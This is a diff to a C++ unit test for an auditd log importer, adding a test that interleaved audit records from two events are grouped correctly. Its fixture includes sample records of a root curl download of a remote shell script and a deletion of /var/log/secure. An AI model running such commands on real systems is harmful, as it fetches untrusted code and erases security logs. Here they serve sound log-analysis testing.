@@ -35,6 +35,7 @@ private slots:
     void accessDenials();
     void interpretedOutput();
     void groupingIsBounded();
+    void interleavedEventsStayWhole();
     void secretsInCommandLinesAreFingerprinted();
     void brokenLines();
     void hintsFillNode();
@@ -239,6 +240,36 @@ void TestAuditdImporter::groupingIsBounded()
     QCOMPARE(m.out.events[0].ev.line, 1);
     QCOMPARE(m.out.events[1].ev.line, 1 + AuditdImporter::kMaxRecordsPerEvent);
     QCOMPARE(col(m.out.events[2].ev, EventText::Verb), QStringLiteral("unlink"));
+}
+
+void TestAuditdImporter::interleavedEventsStayWhole()
+{
+    // Two CPUs logging at once: the records of serials 501 and 502 alternate.
+    const QByteArray data =
+        "type=SYSCALL msg=audit(1700000000.100:501): arch=c000003e syscall=59 success=yes auid=1000 uid=0 euid=0 "
+        "comm=\"curl\" exe=\"/usr/bin/curl\" key=\"exec\"\n"
+        "type=SYSCALL msg=audit(1700000000.100:502): arch=c000003e syscall=87 success=yes auid=1001 uid=1001 "
+        "euid=1001 comm=\"rm\" exe=\"/usr/bin/rm\" key=\"delete\"\n"
+        "type=EXECVE msg=audit(1700000000.100:501): argc=2 a0=\"curl\" a1=\"http://198.51.100.7/x.sh\"\n"
+        "type=PATH msg=audit(1700000000.100:502): item=0 name=\"/var/log/secure\" nametype=DELETE\n"
+        "type=EOE msg=audit(1700000000.100:501): \n"
+        "type=EOE msg=audit(1700000000.100:502): \n";
+    const MemoryImport m = runBytes(data);
+    QVERIFY(m.result.hasValue());
+    QCOMPARE(m.out.events.size(), size_t(2));
+    const NormalizedEvent* exec = nullptr;
+    const NormalizedEvent* unlink = nullptr;
+    for (const auto& e : m.out.events)
+        (col(e.ev, EventText::RecordId).endsWith(QStringLiteral(":501")) ? exec : unlink) = &e.ev;
+    QVERIFY(exec && unlink);
+    QCOMPARE(col(*exec, EventText::Verb), QStringLiteral("execve"));
+    QCOMPARE(col(*exec, EventText::Object), QStringLiteral("curl http://198.51.100.7/x.sh"));
+    QCOMPARE(col(*exec, EventText::Principal), QStringLiteral("1000"));
+    QCOMPARE(exec->line, 1);
+    QCOMPARE(col(*unlink, EventText::Verb), QStringLiteral("unlink"));
+    QCOMPARE(col(*unlink, EventText::Object), QStringLiteral("/var/log/secure"));
+    QCOMPARE(col(*unlink, EventText::Principal), QStringLiteral("1001"));
+    QCOMPARE(unlink->line, 2);
 }
 
 void TestAuditdImporter::secretsInCommandLinesAreFingerprinted()
